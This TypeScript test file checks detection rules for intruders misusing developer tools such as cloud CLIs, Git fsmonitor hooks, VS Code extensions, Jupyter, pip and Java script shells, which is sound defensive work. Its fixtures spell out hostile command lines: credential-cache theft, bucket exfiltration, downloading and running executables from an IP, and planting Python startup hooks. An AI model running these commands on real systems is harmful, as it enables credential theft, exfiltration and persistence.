// Built-in rules for developer tools and interpreters in intruders' hands (cloud and cluster CLIs, Git, VS Code
// extensions, Jupyter, pip and Python startup hooks, the JDK's script shells, offensive tools cloned or downloaded):
// each rule fires on the event it is written for, as Windows or Sysmon writes it, with its level and a tactic of what
// the event shows, and a benign near miss of the same event type does not fire it.
import { describe, expect, it } from 'vitest';
import { builtinHits, CMD, describeCatalogue, file, proc, PS, sec, type CatalogueCase, type Ev } from './builtin.fixture.js';

const subj = { SubjectUserSid: 'S-1-5-21-1-2-3-1104', SubjectUserName: 'bob', SubjectDomainName: 'CORP', SubjectLogonId: '0x3a1f2' };
/** Security 4688 with a command line (command-line auditing on). */
const proc4688 = (image: string, cmd: string, parent = CMD): Ev =>
  sec(4688, { ...subj, NewProcessId: '0x1a2c', NewProcessName: image, TokenElevationType: '%%1938', ProcessId: '0x2b10', CommandLine: cmd, ParentProcessName: parent, MandatoryLabel: 'S-1-16-8192' });

const AWS = 'C:\\Program Files\\Amazon\\AWSCLIV2\\aws.exe';
const AZPY = 'C:\\Program Files\\Microsoft SDKs\\Azure\\CLI2\\python.exe';
const KUBECTL = 'C:\\Users\\bob\\AppData\\Local\\Microsoft\\WinGet\\Links\\kubectl.exe';
const GIT = 'C:\\Program Files\\Git\\cmd\\git.exe';
const GIT_BIN = 'C:\\Program Files\\Git\\mingw64\\bin\\git.exe';
const CODE = 'C:\\Users\\bob\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe';
const PY = 'C:\\Program Files\\Python311\\python.exe';
const CONDA = 'C:\\ProgramData\\Anaconda3\\python.exe';
const JDK = 'C:\\Program Files\\Java\\jdk1.8.0_401\\bin\\';

/** [rule title, level, a tactic it carries, the event it is written for, a benign near miss]. */
const cases: CatalogueCase[] = [
  ['Local Folder Or Share Uploaded To A Cloud Storage Bucket With The AWS Or Google Cloud CLI', 'medium', 'exfiltration',
    proc(AWS, `"${AWS}" s3 cp D:\\Shares\\Legal s3://bkp-archive-7731/l/ --recursive --profile bk`, PS),
    proc(AWS, `"${AWS}" s3 cp s3://corp-artifacts/build/app.zip D:\\Deploy\\app.zip`, PS)],
  ['Local Folder Or Share Uploaded To A Cloud Storage Bucket With The AWS Or Google Cloud CLI', 'medium', 'exfiltration',
    proc4688(AWS, 'aws s3 sync \\\\fs01\\finance s3://x-7731/f --only-show-errors'),
    proc4688(AWS, 'aws s3 sync s3://x-7731/f C:\\Restore\\f')],
  ['Local Folder Or Share Uploaded To A Cloud Storage Bucket With The AWS Or Google Cloud CLI', 'medium', 'exfiltration',
    proc('C:\\Program Files\\Google\\Cloud SDK\\google-cloud-sdk\\bin\\gsutil.cmd', 'gsutil -m cp -r C:\\Users\\bob\\Documents gs://drop-991/', PS),
    proc('C:\\Program Files\\Google\\Cloud SDK\\google-cloud-sdk\\bin\\gsutil.cmd', 'gsutil -m cp -r gs://drop-991/ C:\\Users\\bob\\Documents', PS)],
  ['Git Fsmonitor Hook Set To A Program (git config core.fsmonitor)', 'medium', 'persistence',
    proc(GIT, 'git  config --global core.fsmonitor "C:/Users/bob/AppData/Local/Microsoft/GameDVR/gitmon.exe"'),
    proc(GIT_BIN, `"${GIT_BIN}" config core.fsmonitor true`)],
  ['Git Fsmonitor Hook Set To A Program (git config core.fsmonitor)', 'medium', 'persistence',
    proc4688(GIT, 'git config --system core.fsmonitor C:\\ProgramData\\fsm.bat'),
    proc4688(GIT, 'git config core.fsmonitor .git/hooks/query-watchman')],
  ['Program Outside Git Started By Git With The Fsmonitor Hook Arguments', 'medium', 'persistence',
    proc('C:\\Users\\bob\\AppData\\Local\\Microsoft\\GameDVR\\gitmon.exe', '"C:/Users/bob/AppData/Local/Microsoft/GameDVR/gitmon.exe" 2 ""', GIT_BIN),
    proc('C:\\Program Files\\Git\\mingw64\\libexec\\git-core\\git-remote-https.exe', '"C:\\Program Files\\Git\\mingw64\\libexec\\git-core\\git-remote-https.exe" origin https://github.com/corp/app 2 ""', GIT_BIN)],
  ['Program Outside Git Started By Git With The Fsmonitor Hook Arguments', 'medium', 'persistence',
    proc4688('C:\\Users\\Public\\fsm.exe', 'C:\\Users\\Public\\fsm.exe 1 1733050000000000000', GIT_BIN),
    proc4688('C:\\Users\\Public\\fsm.exe', 'C:\\Users\\Public\\fsm.exe 1 1733050000000000000', CMD)],
  ['Offensive Security Tool Written Under Its Public File Name (Sysmon 11)', 'high', 'command-and-control',
    file('C:\\ProgramData\\gp\\Rubeus.exe', GIT_BIN), file('C:\\ProgramData\\gp\\README.md', GIT_BIN)],
  ['Offensive Security Tool Written Under Its Public File Name (Sysmon 11)', 'high', 'command-and-control',
    file('C:\\Users\\bob\\Downloads\\SharpHound.exe', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'),
    file('C:\\Users\\bob\\Downloads\\SharpDevelop.exe', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe')],
  ['Offensive Security Tool Written Under Its Public File Name (Sysmon 11)', 'high', 'command-and-control',
    file('C:\\Users\\Public\\Libraries\\Certify.exe', 'C:\\Windows\\System32\\certutil.exe'),
    file('C:\\Program Files\\CertifyTheWeb\\certify.exe', 'C:\\Windows\\System32\\msiexec.exe')],
  ['Access Token Printed By A Cloud CLI (az account get-access-token, gcloud auth print-access-token)', 'low', 'credential-access',
    proc(AZPY, `"${AZPY}" -IBm azure.cli account get-access-token --resource-type ms-graph --query accessToken -o tsv`),
    proc(AZPY, `"${AZPY}" -IBm azure.cli account show`)],
  ['Access Token Printed By A Cloud CLI (az account get-access-token, gcloud auth print-access-token)', 'low', 'credential-access',
    proc4688('C:\\Program Files\\Google\\Cloud SDK\\google-cloud-sdk\\platform\\bundledpython\\python.exe', 'python.exe "C:\\Program Files\\Google\\Cloud SDK\\google-cloud-sdk\\lib\\gcloud.py" auth print-access-token'),
    proc4688('C:\\Program Files\\Google\\Cloud SDK\\google-cloud-sdk\\platform\\bundledpython\\python.exe', 'python.exe "C:\\Program Files\\Google\\Cloud SDK\\google-cloud-sdk\\lib\\gcloud.py" auth login')],
  ['Cloud CLI Token Cache Or Credentials File Named On A Command Line', 'medium', 'credential-access',
    proc(CMD, 'C:\\Windows\\system32\\cmd.exe /c copy /y %USERPROFILE%\\.azure\\msal_token_cache.bin C:\\Users\\Public\\Libraries\\m.bin'),
    proc(CMD, 'C:\\Windows\\system32\\cmd.exe /c dir %USERPROFILE%\\.azure')],
  ['Cloud CLI Token Cache Or Credentials File Named On A Command Line', 'medium', 'credential-access',
    proc4688('C:\\Windows\\System32\\tar.exe', 'tar -a -c -f C:\\Users\\Public\\k.zip C:\\Users\\bob\\.aws\\credentials C:\\Users\\bob\\.aws\\config'),
    proc4688('C:\\Windows\\System32\\tar.exe', 'tar -a -c -f C:\\Users\\Public\\k.zip C:\\Users\\bob\\.aws\\config')],
  ['Jupyter Server Started On All Interfaces Without A Token Or Password', 'medium', 'execution',
    proc(CONDA, `"${CONDA}" -m jupyter notebook --ip=0.0.0.0 --port=8888 --no-browser --NotebookApp.token= --NotebookApp.password= --notebook-dir=C:\\`, PS),
    proc(CONDA, `"${CONDA}" -m jupyter notebook --ip=0.0.0.0 --port=8888 --no-browser --notebook-dir=D:\\work`, PS)],
  ['Jupyter Server Started On All Interfaces Without A Token Or Password', 'medium', 'execution',
    proc4688('C:\\Users\\bob\\miniconda3\\Scripts\\jupyter-lab.exe', "jupyter lab --ServerApp.ip='*' --ServerApp.token='' --no-browser"),
    proc4688('C:\\Users\\bob\\miniconda3\\Scripts\\jupyter-lab.exe', "jupyter lab --ServerApp.ip=127.0.0.1 --ServerApp.token='' --no-browser")],
  ['VS Code Extension Installed From A VSIX File On The Command Line', 'low', 'persistence',
    proc(CODE, `"${CODE}" "C:\\Users\\bob\\AppData\\Local\\Programs\\Microsoft VS Code\\resources\\app\\out\\cli.js" --install-extension C:\\Users\\bob\\Downloads\\prettier-format-plus-3.2.1.vsix --force`),
    proc(CODE, `"${CODE}" "C:\\Users\\bob\\AppData\\Local\\Programs\\Microsoft VS Code\\resources\\app\\out\\cli.js" --install-extension ms-python.python`)],
  ['Hidden PowerShell Runs A Script From An Editor Extension Folder', 'medium', 'persistence',
    proc(PS, 'powershell  -w hidden -nop -ep bypass -f "C:\\Users\\bob\\.vscode\\extensions\\prettier-tools.prettier-format-plus-3.2.1\\dist\\u.ps1"', CMD),
    proc(PS, 'powershell -NoProfile -NonInteractive -ExecutionPolicy Bypass -File "C:\\Users\\bob\\.vscode\\extensions\\acme.tools-1.0.0\\scripts\\detect.ps1"', CMD)],
  ['Hidden PowerShell Runs A Script From An Editor Extension Folder', 'medium', 'execution',
    proc4688(CMD, 'C:\\WINDOWS\\system32\\cmd.exe /d /s /c "powershell -WindowStyle Hidden -f "C:\\Users\\bob\\.cursor\\extensions\\x.helper-0.1.0\\h.ps1""', CODE),
    proc4688(PS, 'powershell -WindowStyle Hidden -NoProfile -ExecutionPolicy Bypass -Command Import-Module \'C:\\Users\\bob\\.vscode\\extensions\\ms-vscode.powershell-2024.4.0\\modules\\PowerShellEditorServices\\PowerShellEditorServices.psd1\'', CODE)],
  ['Java Script Shell Runs Inline Code That Downloads Or Starts A Program (jrunscript, jjs)', 'high', 'execution',
    proc4688(`${JDK}jrunscript.exe`, 'jrunscript  -e "cp(\'http://198.51.100.90/jx/svch.exe\',\'C:\\\\ProgramData\\\\Oracle\\\\svch.exe\')"'),
    proc4688(`${JDK}jrunscript.exe`, 'jrunscript -q')],
  ['Java Script Shell Runs Inline Code That Downloads Or Starts A Program (jrunscript, jjs)', 'high', 'command-and-control',
    proc(`${JDK}jjs.exe`, 'jjs.exe -e "java.lang.Runtime.getRuntime().exec(\'C:\\\\ProgramData\\\\x.exe\')"'),
    proc(`${JDK}jjs.exe`, 'jjs.exe C:\\build\\scripts\\version.js')],
  ['Python Startup Hook Named In Site-Packages On A Command Line (.pth, sitecustomize, usercustomize)', 'medium', 'persistence',
    proc(PY, "python  -c \"open(r'C:\\Program Files\\Python311\\Lib\\site-packages\\_distutils_cfg.pth','w').write('import subprocess')\""),
    proc(PY, "python -c \"import site; print(site.getsitepackages())\"")],
  ['Python Startup Hook Named In Site-Packages On A Command Line (.pth, sitecustomize, usercustomize)', 'medium', 'persistence',
    proc4688('C:\\Windows\\System32\\attrib.exe', 'attrib  +h "C:\\Program Files\\Python311\\Lib\\site-packages\\sitecustomize.py"'),
    proc4688('C:\\Windows\\System32\\attrib.exe', 'attrib  +r "C:\\Program Files\\Python311\\Lib\\site-packages\\requests\\api.py"')],
  ['Python Package Installed With Pip From A Bare IP Address', 'medium', 'command-and-control',
    proc('C:\\Program Files\\Python312\\python.exe', 'python  -m pip install --user --trusted-host 198.51.100.88 http://198.51.100.88/pkgs/pywinsvc-1.2.0-py3-none-any.whl'),
    proc('C:\\Program Files\\Python312\\python.exe', 'python -m pip install --index-url https://nexus.corp.example/repository/pypi-proxy/simple --trusted-host nexus.corp.example -r requirements.txt')],
  ['Python Package Installed With Pip From A Bare IP Address', 'medium', 'command-and-control',
    proc4688('C:\\Users\\bob\\venv\\Scripts\\pip.exe', 'pip install --index-url http://203.0.113.14:8080/simple/ pywinsvc'),
    proc4688('C:\\Users\\bob\\venv\\Scripts\\pip.exe', 'pip install --index-url http://10.20.5.40:8080/simple/ internal-lib')],
];

describeCatalogue('built-in rules for developer tools and interpreters in intruders\' hands', cases);

describe('built-in rules for developer tools: correlations', () => {
  const titles = (events: Ev[]): string[] => [...builtinHits(events).keys()];

  it('five different cloud or kubectl enumeration commands on one host within ten minutes are discovery; four, or the same command five times, are not, nor a base hit alone', () => {
    const BURST = 'Burst Of Cloud Or Kubernetes Enumeration Commands On One Host';
    const aws = (args: string): Ev => proc(AWS, `aws  ${args} --profile prod-deploy`);
    const kube = (args: string): Ev => proc4688(KUBECTL, `"${KUBECTL}" ${args}`, PS);
    const h = builtinHits([aws('sts get-caller-identity'), aws('iam list-users'), aws('ec2 describe-instances --region eu-west-1'), aws('s3 ls'), aws('secretsmanager list-secrets')]).get(BURST);
    expect(h?.level).toBe('low');
    expect(h?.tactics).toContain('discovery');
    expect(titles([kube('auth can-i --list'), kube('get nodes -o wide'), kube('get pods -A'), kube('get svc -A'), kube('-n kube-system get serviceaccounts')])).toContain(BURST);
    expect(titles([aws('sts get-caller-identity'), aws('iam list-users'), aws('ec2 describe-instances'), aws('s3 ls')])).not.toContain(BURST);
    expect(titles([aws('s3 ls'), aws('s3 ls'), aws('s3 ls'), aws('s3 ls'), aws('s3 ls')])).not.toContain(BURST);
    expect(titles([aws('s3 cp s3://a/b C:\\x'), kube('apply -f app.yaml'), kube('rollout status deploy/web'), kube('logs web-1'), kube('describe pod web-1')])).not.toContain(BURST);
    expect(titles([aws('iam list-users')])).toEqual([]);
  });

  it('an Azure command counts once although az.cmd and its python process both log it', () => {
    const BURST = 'Burst Of Cloud Or Kubernetes Enumeration Commands On One Host';
    const az = (args: string): Ev[] => [
      proc(CMD, `C:\\WINDOWS\\system32\\cmd.exe /d /c ""C:\\Program Files\\Microsoft SDKs\\Azure\\CLI2\\wbin\\az.cmd" ${args}"`, 'C:\\Program Files\\PowerShell\\7\\pwsh.exe'),
      proc(AZPY, `"${AZPY}" -IBm azure.cli ${args}`),
    ];
    expect(titles([...az('account list --all'), ...az('ad user list'), ...az('vm list -d')])).not.toContain(BURST);
    expect(titles([...az('account list --all'), ...az('ad user list'), ...az('vm list -d'), ...az('keyvault list'), ...az('role assignment list --all')])).toContain(BURST);
  });

  it('git init then git push on one host within thirty minutes is exfiltration to a code repository; a push alone, or the push first, is not', () => {
    const PUSHED = 'New Git Repository Created And Pushed Within Minutes On One Host';
    const git = (args: string): Ev => proc4688(GIT, `git  ${args}`);
    const h = builtinHits([git('init'), git('add -A'), git('-c user.email=ci@example.invalid -c user.name=ci commit -q -m "sync"'), git('remote add origin https://github.com/x/backup.git'), git('push -q -u origin master')]).get(PUSHED);
    expect(h?.level).toBe('low');
    expect(h?.tactics).toContain('exfiltration');
    expect(titles([git('fetch origin'), git('rebase origin/main'), git('push origin feature/x')])).not.toContain(PUSHED);
    expect(titles([git('push origin main'), git('init')])).not.toContain(PUSHED);
    expect(titles([git('submodule init'), git('push origin main')])).not.toContain(PUSHED);
    expect(titles([git('init')])).toEqual([]);
  });
});
